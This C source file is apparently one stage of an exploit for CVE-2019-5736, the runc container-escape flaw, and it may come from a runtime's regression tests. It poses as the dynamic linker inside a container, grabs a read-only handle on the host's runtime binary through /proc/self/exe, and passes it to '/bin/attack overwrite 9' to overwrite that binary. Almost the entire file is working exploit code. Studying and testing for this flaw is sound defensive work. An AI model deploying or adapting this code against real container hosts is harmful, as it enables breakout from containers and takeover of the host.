/*
 * interpreter: stands in a rootfs as the dynamic linker, /lib64/ld-linux-...
 * Where the runtime's own program is executed there, by way of /proc/self/exe,
 * the kernel starts this in its place, and /proc/self/exe is the program on the
 * host's disk (CVE-2019-5736). It keeps that open and hands it on.
 *
 * It has no start-up code of the C library, which would take the program's
 * headers for its own. Nothing but syscall(2) is called, no call may fail, and
 * nothing is on the stack, which is not aligned as the compiler expects.
 */
#include <fcntl.h>
#include <stddef.h>
#include <sys/syscall.h>
#include <unistd.h>

/* The linker begins a program there. */
void _start(void); // NOLINT(*-reserved-identifier,cert-dcl*)

void
_start(void) // NOLINT(*-reserved-identifier,cert-dcl*)
{
	static char *const argv[] = {"attack", "overwrite", "9", NULL};
	static char *const envp[] = {NULL};

	syscall(SYS_dup3,
		syscall(SYS_openat, AT_FDCWD, "/proc/self/exe", O_RDONLY), 9,
		0);
	syscall(SYS_execve, "/bin/attack", argv, envp);
	syscall(SYS_exit, 1);
	__builtin_unreachable();
}
